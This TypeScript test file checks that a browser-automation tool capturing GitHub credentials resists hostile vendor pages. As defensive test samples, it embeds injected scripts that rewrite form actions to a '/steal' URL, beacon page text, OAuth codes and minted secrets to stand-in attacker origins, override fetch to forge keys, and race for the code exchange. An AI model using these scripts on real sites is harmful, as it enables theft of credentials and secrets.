/**
 * Generated-credential capture under attack: a hostile vendor (tests/fixtures/hostile_vendor.ts)
 * whose pages swap a form's action, add a field at submit, open the submission in a popup,
 * send page text, the one-time code or the minted values to another origin (one the policy
 * allows, and one it does not), race the runtime for the code's conversion, override the
 * page's fetch and Response; conversion answers that are huge, not JSON, a 500 or oddly
 * shaped; answer pages that show the secret twice or in their title and URL; a model that
 * calls the tool with junk, a workflow without a template, a runtime without a vault, and
 * then tries to read the tainted session.
 *
 * What must hold in every case: (1) no code or minted value reaches the MCP stream, the log,
 * the audit, the database's bytes or the console, in any encoding; (2) nothing but the step's
 * own request leaves during a capture step, and neither the code nor a minted value reaches
 * another origin; (3) a failed check submits nothing; (4) the session is tainted whatever the
 * outcome; (5) anything unexpected fails closed with a stable code, writing nothing; (6)
 * malformed arguments get a clear error.
 *
 * The world and the checks every attempt must pass are tests/helpers/capture_attack.ts; the
 * Linear pages, failed checks and the hostile model are tests/capture_attack_linear_test.ts,
 * which runs beside this file.
 */
import assert from "node:assert/strict";
import { Vault } from "../vault/mod.ts";
import { GITHUB_OUTPUTS } from "./helpers/capture_world.ts";
import {
  conversionBody,
  type HostileGithubOptions,
  jsonAnswer,
  serveHostileVendors,
} from "./fixtures/hostile_vendor.ts";
import {
  assertTainted,
  found,
  hostileCapture,
  policyFor,
  randomHex,
  seenText,
  type SharedSession,
  world,
} from "./helpers/capture_attack.ts";

Deno.test("capture refusals of the runtime: no vault key, no template; both taint, submit nothing", async (t) => {
  await using v = await serveHostileVendors();
  const seen = () => v.github.requests.length + v.linear.requests.length;

  await t.step("a runtime without a vault key: VAULT_UNAVAILABLE, tainted", async () => {
    await using w = await world(v, policyFor(v, {}), { vault: false });
    const c = await w.connect();
    const before = seen();
    const out = await c.call("browser_capture_credentials", {
      workflow: "github_app",
      outputs: { pem: "g_aaaaaaaaaaaaaaaa", client_secret: "g_b", webhook_secret: "g_c" },
    });
    assert.equal(out.isError, true, out.text);
    assert.match(out.text, /VAULT_UNAVAILABLE|CAPTURE_UNAVAILABLE/);
    assert.match(out.text, /nothing (was )?submitted/);
    assert.equal(seen(), before, "the vendor saw nothing");
    await assertTainted(c, v.github.origin);
    // A second call in the tainted session still runs and reports.
    const again = await c.call("browser_capture_credentials", {
      workflow: "linear_oauth_app",
      outputs: { client_id: "g_a", client_secret: "g_b" },
    });
    assert.match(again.text, /VAULT_UNAVAILABLE|CAPTURE_UNAVAILABLE/);
  });

  await t.step("a workflow the policy has no template for: CAPTURE_UNCONFIGURED", async () => {
    await using w = await world(v, policyFor(v, { github: false }));
    const c = await w.connect();
    const g = await w.grant("github_app", GITHUB_OUTPUTS);
    const before = seen();
    const out = await c.call("browser_capture_credentials", {
      workflow: "github_app",
      outputs: g.ids,
    });
    assert.equal(out.isError, true, out.text);
    assert.equal(seen(), before, "the vendor saw nothing");
    for (const id of Object.values(g.targets)) assert.equal(Vault.has(w.db, id), false);
    for (const id of Object.values(g.ids)) assert.equal((await w.grants.get(id))?.state, "active");
    assert.match(out.text, /CAPTURE_UNCONFIGURED/, "the stable code of a missing template");
  });
});

Deno.test("browser_capture_credentials under attack (GitHub): hostile confirmation, callback and root pages, hostile conversion answers", async (t) => {
  await using h = await hostileCapture();
  const { github, bystander, attacker, posts, attempt, exfil, TARGETS, formText } = h;
  /**
   * The session of the pages whose script changes only its own page's form or submission (a
   * listener, an observer: no tab, no timer, nothing kept), or sends only to the attacker
   * (whom nothing may ever reach, so what a page before left can fail no attempt wrongly):
   * see {@link SharedSession}. The baseline opens it, clean.
   */
  const ownPage: SharedSession = {};
  /**
   * The session of the attempts whose page scripts aim at the allowed bystander, or whose
   * vendor redirects elsewhere: each such capture ends by leaving for a blank page, or fails
   * on a page with no script, so none leaves a sender behind for the next. The first one, the
   * page that must send nothing to the bystander at all, opens it clean.
   */
  const elsewhere: SharedSession = {};
  // --- sanity and the tainted session -----------------------------------------------

  await t.step(
    "baseline: the hostile fixture, harmless, captures; a tainted session still captures and reports",
    async () => {
      const a = await attempt("github_app", {}, { shared: ownPage });
      assert.equal(a.out.isError, false, a.out.text);
      const b = await attempt("linear_oauth_app", {}, { client: a.c });
      assert.equal(b.out.isError, false, b.out.text);
      assert.match(b.out.text, /tainted/);
      // The tainted session: status only, or refused.
      const snap = await a.c.call("browser_snapshot", {});
      assert.match(snap.text, /status only/);
      for (
        const [tool, args] of [
          ["browser_network_requests", {}],
          ["browser_console_messages", {}],
          ["browser_tabs", { action: "list" }],
          ["browser_take_screenshot", {}],
          ["browser_navigate_back", {}],
          ["browser_wait_for", { text: "secret" }],
        ] as const
      ) {
        const r = await a.c.call(tool, args);
        assert.equal(r.isError, true, `${tool}: ${r.text}`);
        assert.match(r.text, /SESSION_TAINTED|SCREENSHOT/, `${tool}: ${r.text}`);
      }
    },
  );

  // --- the GitHub confirmation page -------------------------------------------------

  // No page script runs from the confirmation's submission on (the runtime turns scripts
  // off before it submits): a listener that would change the submission never fires, so the
  // form's own submission leaves as read, or the capture fails closed; either way nothing
  // reaches another origin and nothing minted is lost.
  const submitScripts: [string, string][] = [
    [
      "swaps the form's action to another origin at submit",
      `<script>document.addEventListener("submit", (e) => { e.target.action = ${
        JSON.stringify(`${bystander.origin}/steal`)
      }; }, true);</script>`,
    ],
    [
      "turns the form into a GET to another origin at submit",
      `<script>document.addEventListener("submit", (e) => { e.target.method = "get"; e.target.action = ${
        JSON.stringify(`${bystander.origin}/steal`)
      }; }, true);</script>`,
    ],
    [
      "adds a field at submit",
      `<script>document.addEventListener("submit", (e) => { const i = document.createElement("input"); i.type = "hidden"; i.name = "leak"; i.value = document.title; e.target.appendChild(i); }, true);</script>`,
    ],
    [
      "adds a field on formdata",
      `<script>document.addEventListener("formdata", (e) => { e.formData.append("leak", document.title); }, true);</script>`,
    ],
    [
      "opens its submission in a popup (target=_blank)",
      `<script>document.addEventListener("submit", (e) => { e.target.target = "_blank"; }, true);</script>`,
    ],
  ];
  for (const [what, head] of submitScripts) {
    await t.step(
      `confirmation page ${what}: the script never runs, nothing leaves elsewhere`,
      async () => {
        const m = github.minted.length;
        // A submission into a popup leaves a tab behind: a fresh session of its own.
        const opensTab = head.includes(`"_blank"`);
        const a = await attempt("github_app", { github: { confirmHead: head } }, {
          shared: opensTab ? undefined : ownPage,
        });
        assert.deepEqual(
          a.toBystander.map((r) => `${r.method} ${r.url.slice(0, 100)}`),
          [],
          "nothing of the confirmation reached another origin",
        );
        if (a.out.isError) {
          assert.equal(github.minted.length, m, a.out.text);
        } else {
          assert.equal(github.minted.length, m + 1);
          assert.match(a.out.text, /CAPTURE_DONE/);
        }
      },
    );
  }

  await t.step(
    "confirmation page aims its form at another tab in its markup (<base target>): refused before it is sent, nothing minted",
    async () => {
      const m = github.minted.length;
      // No script, and refused before anything is sent: no tab is opened.
      const a = await attempt("github_app", {
        github: { confirmHead: `<base target="_blank">` },
      }, { shared: ownPage });
      assert.equal(a.out.isError, true, a.out.text);
      assert.match(a.out.text, /CAPTURE_PAGE_UNEXPECTED/);
      assert.match(a.out.text, /another tab/);
      assert.equal(github.minted.length, m);
    },
  );

  await t.step(
    "confirmation page points its form at another origin as it loads: CAPTURE_PAGE_UNEXPECTED, nothing minted",
    async () => {
      const m = github.minted.length;
      const a = await attempt("github_app", {
        github: {
          confirmHead:
            `<script>document.addEventListener("DOMContentLoaded", () => { document.forms[0].action = ${
              JSON.stringify(`${bystander.origin}/steal`)
            }; });</script>`,
        },
      }, { shared: ownPage });
      assert.equal(a.out.isError, true, a.out.text);
      assert.match(a.out.text, /CAPTURE_PAGE_UNEXPECTED/);
      assert.equal(github.minted.length, m);
      assert.deepEqual(a.toBystander.filter((r) => r.method !== "GET"), []);
    },
  );

  await t.step(
    "confirmation and root pages send page text by img/fetch/beacon/XHR to 127.0.0.2 (not allowed): nothing arrives",
    async () => {
      const a = await attempt("github_app", {
        github: {
          rootHead: exfil([attacker.origin], formText, "root"),
          confirmHead: exfil([attacker.origin], formText, "confirm"),
        },
      }, { shared: ownPage });
      // The attempt asserts the attacker saw nothing; the capture itself may still succeed.
      assert.match(a.out.text, /CAPTURE_(DONE|WRITE_REFUSED)/, a.out.text);
    },
  );

  await t.step(
    "confirmation page sends page text to an allowed origin during the step: no write lands, and nothing else leaves",
    async () => {
      const a = await attempt("github_app", {
        github: { confirmHead: exfil([bystander.origin], formText, "confirm") },
      }, { shared: elsewhere });
      assert.deepEqual(
        a.toBystander.filter((r) => r.method !== "GET").map((r) => `${r.method} ${r.url}`),
        [],
        "a write reached another origin during a capture step",
      );
      assert.deepEqual(
        a.toBystander.map((r) => `${r.method} ${r.url.slice(0, 60)}`),
        [],
        "requests carrying the confirmation page's text left for another origin during the step",
      );
    },
  );

  // --- the callback ------------------------------------------------------------------

  await t.step(
    "callback page script reads the code from location.search and sends it elsewhere: the code never leaves",
    async () => {
      const code = `cb${randomHex(12)}`;
      const a = await attempt("github_app", {
        github: {
          code,
          callbackHead: `<meta name="referrer" content="unsafe-url">${
            exfil(TARGETS, "location.search", "cb")
          }<script>document.addEventListener("DOMContentLoaded", () => { const i = document.createElement("img"); i.src = ${
            JSON.stringify(`${bystander.origin}/cb-referer.png`)
          }; document.body.appendChild(i); });</script>`,
        },
      }, { shared: elsewhere });
      // The attempt checked the bystander; say plainly what it got.
      assert.deepEqual(found(seenText(a.toBystander), [code]), []);
    },
  );

  await t.step(
    "the vendor redirects the callback to an allowed origin: CAPTURE_CALLBACK_REFUSED, the code never arrives there",
    async () => {
      const conversions = github.conversions;
      const a = await attempt("github_app", { github: { callbackOrigin: bystander.origin } }, {
        shared: elsewhere,
      });
      assert.equal(a.out.isError, true, a.out.text);
      assert.match(a.out.text, /CAPTURE_CALLBACK_REFUSED/);
      assert.equal(github.conversions, conversions);
    },
  );

  await t.step(
    "the vendor redirects the callback to 127.0.0.2 (not allowed): refused, nothing arrives",
    async () => {
      const a = await attempt("github_app", { github: { callbackOrigin: attacker.origin } }, {
        shared: elsewhere,
      });
      assert.equal(a.out.isError, true, a.out.text);
      assert.match(a.out.text, /CAPTURE_CALLBACK_REFUSED/);
    },
  );

  // --- the root page (manifest and conversion) ---------------------------------------

  await t.step(
    "root page redirects to another origin before the manifest is posted: nothing posted anywhere",
    async () => {
      // Each is the vendor's redirect, with no page script.
      for (const target of [`${bystander.origin}/elsewhere`, `${attacker.origin}/elsewhere`]) {
        const before = posts();
        const manifests = github.requests.filter((r) => r.url.startsWith("/settings/apps/new"))
          .length;
        const a = await attempt("github_app", { github: { rootRedirect: target } }, {
          shared: elsewhere,
        });
        assert.equal(a.out.isError, true, a.out.text);
        assert.match(a.out.text, /CAPTURE_PAGE_UNEXPECTED/);
        assert.equal(posts(), before);
        assert.equal(
          github.requests.filter((r) => r.url.startsWith("/settings/apps/new")).length,
          manifests,
        );
        assert.deepEqual(a.toBystander.filter((r) => r.method !== "GET"), []);
      }
    },
  );

  await t.step(
    "root page rewrites the runtime's manifest form (formdata, MutationObserver): refused, no manifest changed",
    async () => {
      const evil = JSON.stringify({
        name: "evil",
        url: "https://example.test",
        redirect_url: `${bystander.origin}/cb`,
      });
      const m = github.minted.length;
      const a = await attempt("github_app", {
        github: {
          rootHead: `<script>
document.addEventListener("formdata", (e) => { e.formData.set("manifest", ${
            JSON.stringify(evil)
          }); }, true);
new MutationObserver((l) => { for (const r of l) for (const n of r.addedNodes) if (n.tagName === "FORM") n.action = ${
            JSON.stringify(`${bystander.origin}/settings/apps/new`)
          }; }).observe(document.documentElement, { childList: true, subtree: true });
</script>`,
        },
      }, { shared: ownPage });
      assert.equal(a.out.isError, true, a.out.text);
      assert.match(a.out.text, /CAPTURE_WRITE_REFUSED/);
      assert.equal(github.minted.length, m);
      assert.deepEqual(a.toBystander.filter((r) => r.method !== "GET"), []);
    },
  );

  await t.step(
    "root page overrides fetch, Response.text/json, JSON.parse, form.submit and watches resource timing: the isolated world is unaffected",
    async () => {
      const a = await attempt("github_app", {
        github: {
          rootHead: `<script>
(() => {
  const T = ${JSON.stringify(bystander.origin)};
  const leak = (what, v) => { try { new Image().src = T + "/ovr-" + what + "?v=" + encodeURIComponent(String(v).slice(0, 1500)); } catch (e) {} };
  const f = window.fetch;
  window.fetch = function (u, init) { leak("fetch", u); return Promise.resolve(new Response(JSON.stringify({ id: 1, slug: "x", pem: "-----BEGIN RSA PRIVATE KEY-----\\nforged\\n-----END RSA PRIVATE KEY-----\\n", client_secret: "forged-forged-forged-0001", webhook_secret: "forged-forged-0002" }), { status: 201 })); };
  const text = Response.prototype.text;
  Response.prototype.text = function () { return text.call(this).then((t) => { leak("text", t); return t; }); };
  Response.prototype.json = function () { return text.call(this).then((t) => { leak("json", t); return JSON.parse(t); }); };
  const parse = JSON.parse;
  JSON.parse = function (t) { leak("parse", t); return parse.apply(this, arguments); };
  HTMLFormElement.prototype.submit = function () { leak("submit", new URLSearchParams(new FormData(this))); };
  document.createElement = () => { throw new Error("no"); };
  try { new PerformanceObserver((l) => { for (const e of l.getEntries()) leak("perf", e.name); }).observe({ type: "resource", buffered: true }); } catch (e) {}
})();
</script>`,
        },
      }, { shared: elsewhere });
      // Done: the capture left the page for a blank one, its observer and overrides with it.
      assert.equal(a.out.isError, false, a.out.text);
    },
  );

  await t.step(
    "the vendor's own page races the runtime for the conversion with a code its callback page kept: no minted value leaves",
    async () => {
      // The race is the page's to win or lose: a few tries, in one session, so a code one
      // try's callback page kept is in the storage the next try's root page reads.
      const race: SharedSession = {};
      for (let i = 0; i < 3; i++) {
        let failure: unknown;
        await attempt("github_app", {
          github: {
            callbackHead:
              `<script>try { localStorage.setItem("omotai-code", new URLSearchParams(location.search).get("code") || ""); } catch (e) {}</script>`,
            rootHead: `<script>
(() => {
  const T = ${JSON.stringify(TARGETS)};
  const code = localStorage.getItem("omotai-code");
  if (!code) return;
  localStorage.removeItem("omotai-code");
  const url = "/api/v3/app-manifests/" + encodeURIComponent(code) + "/conversions";
  let got = false;
  const loot = (t) => {
    got = true;
    console.log("LOOT " + t);
    const j = JSON.parse(t);
    for (const o of T) {
      for (const [k, v] of Object.entries(j)) {
        if (typeof v === "string") new Image().src = o + "/loot-" + k + "?v=" + encodeURIComponent(v);
      }
    }
    document.title = "LOOT " + j.client_secret;
  };
  const fire = () => fetch(url, { method: "POST", credentials: "omit", cache: "no-store", headers: { accept: "application/vnd.github+json" } })
    .then((r) => r.status === 201 ? r.text().then(loot) : null).catch(() => {});
  const loop = () => { if (got) return; for (let i = 0; i < 6; i++) fire(); setTimeout(loop, 1); };
  loop();
  setTimeout(() => { got = true; }, 6000);
})();
</script>`,
          },
        }, { shared: race }).catch((err) => failure = err);
        // Whatever the outcome, the tainted session shows nothing of the page.
        const c = race.client!;
        {
          for (
            const [tool, args] of [
              ["browser_snapshot", {}],
              ["browser_network_requests", {}],
              ["browser_console_messages", {}],
              ["browser_tabs", { action: "list" }],
              ["browser_take_screenshot", {}],
              ["browser_navigate", { url: github.origin }],
            ] as const
          ) {
            const r = await c.call(tool, args);
            if (tool === "browser_snapshot") assert.match(r.text, /status only/);
            else assert.equal(r.isError, true, `${tool}: ${r.text}`);
          }
        }
        if (failure) throw failure;
      }
    },
  );

  // --- the conversion's answer ---------------------------------------------------------

  /** The conversion answers' session: each is the vendor's answer, the pages its plain ones. */
  const conversions: SharedSession = {};
  /** A conversion answer test: `answer` replaces the vendor's; `hidden` its shown values. */
  const conversionCase = async (
    answer: (app: Parameters<NonNullable<HostileGithubOptions["conversion"]>>[0]) => Response,
    expect: RegExp,
    hidden: string[] = [],
  ) => {
    const a = await attempt("github_app", { github: { conversion: answer } }, {
      shared: conversions,
      extraSecrets: () => hidden,
    });
    assert.match(a.out.text, expect, a.out.text);
    return a;
  };

  await t.step(
    "a 500 conversion answer that echoes the credentials: CAPTURE_VENDOR_ANSWER, nothing written",
    async () => {
      await conversionCase(
        (app) => jsonAnswer(conversionBody(app), 500),
        /CAPTURE_VENDOR_ANSWER/,
      );
    },
  );

  await t.step("a conversion answer that is not JSON: CAPTURE_VENDOR_ANSWER", async () => {
    await conversionCase(
      (app) =>
        new Response(`<html>pem=${app.pem} secret=${app.client_secret}</html>`, {
          status: 201,
          headers: { "access-control-allow-origin": "*", "content-type": "text/html" },
        }),
      /CAPTURE_VENDOR_ANSWER/,
    );
  });

  await t.step(
    "a huge conversion answer (over 256 KiB): CAPTURE_VENDOR_ANSWER",
    async () => {
      await conversionCase(
        (app) => jsonAnswer({ ...conversionBody(app), padding: "x".repeat(300_000) }, 201),
        /CAPTURE_VENDOR_ANSWER/,
      );
    },
  );

  await t.step(
    "a conversion answer whose pem is not shaped like a key: CAPTURE_VENDOR_ANSWER, the value redacted",
    async () => {
      const bad = `not-a-key-${randomHex(24)}`;
      const a = await conversionCase(
        (app) => jsonAnswer({ ...conversionBody(app), pem: bad }, 201),
        /CAPTURE_VENDOR_ANSWER/,
        [bad],
      );
      assert.match(a.out.text, /pem/);
    },
  );

  await t.step(
    "a conversion answer with extra fields (echoes, nested copies): only the three outputs are written",
    async () => {
      const extra = `extra-${randomHex(20)}`;
      await conversionCase(
        (app) =>
          jsonAnswer({
            ...conversionBody(app),
            message: `your key: ${app.pem}`,
            nested: { secret: app.client_secret, extra },
            html_url: `https://example.test/${app.webhook_secret}`,
          }, 201),
        /CAPTURE_DONE/,
        [extra],
      );
    },
  );

  await t.step(
    "a conversion answer that redirects to another origin: not followed, CAPTURE_VENDOR_ANSWER",
    async () => {
      const before = bystander.requests.length;
      await conversionCase(
        (app) =>
          new Response(null, {
            status: 307,
            headers: {
              "access-control-allow-origin": "*",
              location: `${bystander.origin}/conv?c=${app.code}`,
            },
          }),
        /CAPTURE_VENDOR_ANSWER/,
      );
      assert.deepEqual(
        bystander.requests.slice(before).filter((r) => r.url.startsWith("/conv")),
        [],
      );
    },
  );

  // --- Linear ---------------------------------------------------------------------------

  // --- the leak search -------------------------------------------------------------------

  await t.step(
    "the leak search: no code or minted value anywhere, in any encoding",
    () => h.leakSearch(30),
  );
});
